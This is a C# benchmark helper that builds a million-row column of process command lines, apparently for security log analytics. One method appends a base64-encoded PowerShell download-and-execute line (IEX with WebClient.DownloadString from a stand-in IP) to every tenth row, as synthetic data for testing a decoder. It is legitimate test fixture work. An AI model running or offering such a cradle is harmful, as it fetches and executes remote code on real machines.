using System.Text;
using Quarry.Data.Files;
using Quarry.Tables;

namespace Quarry.Benchmarks;

/// <summary>The text that throughput is measured on: a million command lines.</summary>
internal static class CommandLines
{
    public const int Rows = 1_000_000;

    /// <summary>
    /// The CommandLine column of the corpus's processes_on_host.csv, over and over, or of the samples where the corpus is not
    /// at hand.
    /// </summary>
    public static TextColumn Repeated() => Build((builder, row, line) => builder.Append(line), _ => true);

    /// <summary>The same without the rows in which anything is encoded.</summary>
    public static TextColumn Plain() => Build((builder, row, line) => builder.Append(line), line => Decoding.Base64Unpacker.Unpack(line).Layers.Count == 0);

    /// <summary>The same, every tenth row with a base64 string of its own at its end.</summary>
    public static TextColumn WithBase64()
    {
        return Build(
            (builder, row, line) =>
            {
                if (row % 10 != 0)
                {
                    builder.Append(line);
                    return;
                }

                string payload = Convert.ToBase64String(Encoding.UTF8.GetBytes($"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/{row}.ps1')"));
                builder.Append([.. line, .. Encoding.UTF8.GetBytes($" -enc {payload}")]);
            },
            line => Decoding.Base64Unpacker.Unpack(line).Layers.Count == 0);
    }

    /// <summary>The number of bytes of text in a column.</summary>
    public static long Bytes(TextColumn column) => column.Offsets[^1] - column.Offsets[0];

    /// <summary>Writes a column to a file, a row a line.</summary>
    public static string ToFile(TextColumn column)
    {
        string path = Path.Combine(Path.GetTempPath(), $"quarry-bench-{Environment.ProcessId}.txt");
        using FileStream file = File.Create(path);
        for (int row = 0; row < column.Length; row++)
        {
            file.Write(column[row]);
            file.Write("\n"u8);
        }

        return path;
    }

    /// <summary>The file that the rows come from.</summary>
    public static string Source()
    {
        string? corpus = Environment.GetEnvironmentVariable("QUARRY_CORPUS");
        return string.IsNullOrEmpty(corpus)
            ? Path.Combine(Repository.Root, "samples/windows-process-events.csv")
            : Path.Combine(corpus, "data/processes_on_host.csv");
    }

    private static TextColumn Build(Action<TextColumnBuilder, int, byte[]> append, Func<byte[], bool> isWanted)
    {
        using TableInput input = TableInput.Open([Source()], new InputOptions { Columns = ["CommandLine"] });
        TextColumn lines = input.Stream.Gather().Text("CommandLine");
        byte[][] wanted = [.. Enumerable.Range(0, lines.Length).Select(i => lines[i].ToArray()).Where(isWanted)];
        var builder = new TextColumnBuilder();
        for (int row = 0; row < Rows; row++)
        {
            append(builder, row, wanted[row % wanted.Length]);
        }

        return (TextColumn)builder.Build();
    }
}
